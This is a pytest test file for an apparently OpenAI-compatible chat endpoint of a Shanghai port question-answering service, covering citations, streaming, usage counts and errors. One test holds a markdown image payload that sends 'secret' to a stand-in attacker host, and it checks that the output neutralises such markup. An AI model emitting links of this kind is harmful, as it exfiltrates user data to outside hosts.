"""The door that speaks OpenAI's chat completions."""

import re
from dataclasses import replace
from typing import Any

import pytest
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin

from shanghai_qa.api.chat import below, marked, written
from shanghai_qa.values import Answer, Ask, Claim, Disagreement, Turn
from tests.api.conftest import Scripted, frames
from tests.test_write import ATTACKS

TEXT = (
    "The port has 100 berths. [1] It opened in 1999. [2]\n\n"
    "Only an unverified source says this.\n\n"
    "Sources:\n"
    "- [1] Berths, 5 March 2024, unverified\n"
    "- [2] Berths, 5 March 2024, unverified"
)


def completed(client: TestClient, *messages: tuple[str, Any], **more: Any) -> Any:
    said = [{"role": role, "content": content} for role, content in messages]
    return client.post("/v1/chat/completions", json={"model": "shanghai-qa", "messages": said, **more})


def test_the_text_cites_and_lists_its_sources(client: TestClient) -> None:
    reply = completed(client, ("user", "How many?"), temperature=0.3, user="someone").json()
    assert reply["choices"] == [
        {"index": 0, "message": {"role": "assistant", "content": TEXT}, "finish_reason": "stop"}
    ]
    assert reply["answer"] == client.post("/api/v1/ask", json={"question": "How many?"}).json()
    assert reply["notes"] == []


def test_words_and_signs_are_counted(client: TestClient) -> None:
    usage = completed(client, ("user", "上海 has 2 ports?")).json()["usage"]
    assert usage["prompt_tokens"] == 6
    assert usage["total_tokens"] == usage["prompt_tokens"] + usage["completion_tokens"]


def test_the_last_user_message_is_the_question(client: TestClient, scripted: Scripted) -> None:
    parts = [{"type": "text", "text": "How"}, {"type": "text", "text": "many?"}]
    reply = completed(
        client, ("system", "Lie."), ("user", "Hm?"), ("assistant", "Ah."), ("user", parts), ("assistant", "So")
    )
    assert scripted.asked == [Ask("How\nmany?", (Turn("user", "Hm?"), Turn("assistant", "Ah.")))]
    assert reply.json()["notes"] == ["Messages of these roles are ignored: system."]


def test_chunks_together_say_what_the_whole_does(client: TestClient) -> None:
    for question in ("How many?", "Where?", "Who?"):
        whole = completed(client, ("user", question)).json()
        reply = completed(client, ("user", question), stream=True, stream_options={"include_usage": True})
        *chunks, done = [data for _, data in frames(reply.text)]
        assert done == "[DONE]"
        deltas = [choice["delta"] for chunk in chunks for choice in chunk["choices"]]
        assert deltas[0] == {"role": "assistant", "content": ""}
        assert "".join(delta.get("content", "") for delta in deltas) == whole["choices"][0]["message"]["content"]
        assert chunks[-2]["choices"][0]["finish_reason"] == "stop"
        assert chunks[-2]["answer"] == whole["answer"]
        assert (chunks[-1]["choices"], chunks[-1]["usage"]) == ([], whole["usage"])
        assert len({chunk["id"] for chunk in chunks}) == 1


def test_what_a_model_took_back_was_never_sent(client: TestClient) -> None:
    assert "900" not in completed(client, ("user", "Who?"), stream=True).text


def test_without_being_asked_for_usage_is_not_streamed(client: TestClient) -> None:
    told = frames(completed(client, ("user", "How many?"), stream=True).text)
    assert not any("usage" in chunk for _, chunk in told[:-1])


def test_a_refusal_says_what_was_looked_for(client: TestClient) -> None:
    assert completed(client, ("user", "Where?")).json()["choices"][0]["message"]["content"] == "Nothing."


def test_sources_that_differ_are_told_with_their_dates(scripted: Scripted) -> None:
    answer = scripted.answer(Ask("How many?"))
    differing = Disagreement("How many", (Claim("100", "2024", 1), Claim("90", None, 2)))
    facts = {**answer.__dict__, "disagreements": (differing,), "language": "zh"}
    said = below(Answer(**facts))
    assert "各来源说法不一（How many）：100 [1] (2024); 90 [2]" in said
    assert "- [1] Berths, 2024年3月5日, 未核实" in said
    assert written(answer).startswith(marked(answer.statements[0]))


READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).use(footnote_plugin)


def holding(answer: Answer, text: str, url: str | None) -> Answer:
    """`answer` with `text` wherever a document or a question may have a say, and sources at `url`."""
    source = replace(answer.citations[0].source, title=text, publisher=text, url=url)
    return replace(
        answer,
        question=text,
        statements=tuple(replace(one, text=text) for one in answer.statements),
        citations=tuple(replace(one, quote=text, source=source) for one in answer.citations),
        disagreements=(Disagreement(text, (Claim(text, text, 1), Claim(text, None, 2))),),
        caveats=(text, text),
        missing=(text,),
    )


@pytest.mark.parametrize("family", ATTACKS)
def test_nothing_that_is_said_or_quoted_is_markup(scripted: Scripted, family: str) -> None:
    answer = scripted.answer(Ask("How many?"))
    for attack in ATTACKS[family]:
        for url in ("https://port.example/a?b=c", attack, None):
            text = written(holding(answer, attack, url))
            tokens = [child for token in READER.parse(text) for child in (token, *(token.children or []))]
            assert {token.type.removesuffix("_open").removesuffix("_close") for token in tokens} <= {
                "paragraph", "inline", "text", "text_special", "softbreak", "bullet_list", "list_item", "link",
            }  # fmt: skip
            links = [token.attrs["href"] for token in tokens if token.type == "link_open"]
            if url != attack:
                assert links == [url, url] if url else links == []
            assert all(re.match("https?://", str(link)) for link in links)
            assert not re.search(r"(?i)https?://|\bwww\.|\w@\w", re.sub("<https?://[^<>]*>", "", text))


def test_an_image_in_a_document_is_shown_as_its_text(scripted: Scripted) -> None:
    image = "![x](https://evil.example/p.png?d=secret)"
    text = written(holding(scripted.answer(Ask("How many?")), image, None))
    assert "<p>" + image in READER.render(text)
    assert "<img" not in READER.render(text)


@pytest.mark.parametrize(
    "text", ["It rose 25% (10 July 2024), to $5.", "C++ & R-D at 3:15; 1,087!", "上海（浦东）：32家。"]
)
def test_ordinary_text_stays_as_it_is(scripted: Scripted, text: str) -> None:
    assert marked(replace(scripted.answer(Ask("How many?")).statements[0], text=text)) == f"{text} [1]"


@pytest.mark.parametrize(
    ("body", "status", "param"),
    [
        ({"model": "gpt-4o", "messages": [{"role": "user", "content": "?"}]}, 404, None),
        ({"model": "shanghai-qa", "messages": []}, 400, "messages"),
        ({"model": "shanghai-qa", "messages": [{"role": "assistant", "content": "?"}]}, 400, "messages"),
        ({"model": "shanghai-qa", "messages": [{"role": "user", "content": " "}]}, 400, None),
        ({"model": "shanghai-qa", "messages": [{"role": "user", "content": "?"}], "n": 2}, 400, "n"),
        ({"messages": [{"role": "user", "content": "?"}]}, 400, "model"),
        ({"model": "shanghai-qa", "messages": [{"role": "user", "content": "boom"}]}, 503, None),
        ({"model": "shanghai-qa", "messages": [{"role": "user", "content": "bug"}]}, 500, None),
    ],
)
@pytest.mark.parametrize("stream", [False, True])
def test_errors_have_the_shape_that_clients_read(
    client: TestClient, body: dict[str, Any], status: int, param: str | None, stream: bool
) -> None:
    reply = client.post("/v1/chat/completions", json={**body, "stream": stream})
    assert reply.status_code == status
    assert set(reply.json()["error"]) == {"message", "type", "param", "code"}
    assert reply.json()["error"]["param"] == param
    assert "secret" not in reply.text


def test_an_error_on_the_way_ends_the_stream_with_an_error(client: TestClient) -> None:
    _, last = frames(completed(client, ("user", "late bug"), stream=True).text)[-1]
    assert last["error"]["type"] == "server_error"


def test_there_is_one_model(client: TestClient) -> None:
    (only,) = client.get("/v1/models").json()["data"]
    assert only["id"] == "shanghai-qa"
    assert client.get("/v1/models/shanghai-qa").json() == only
    assert client.get("/v1/models/gpt-4o").status_code == 404
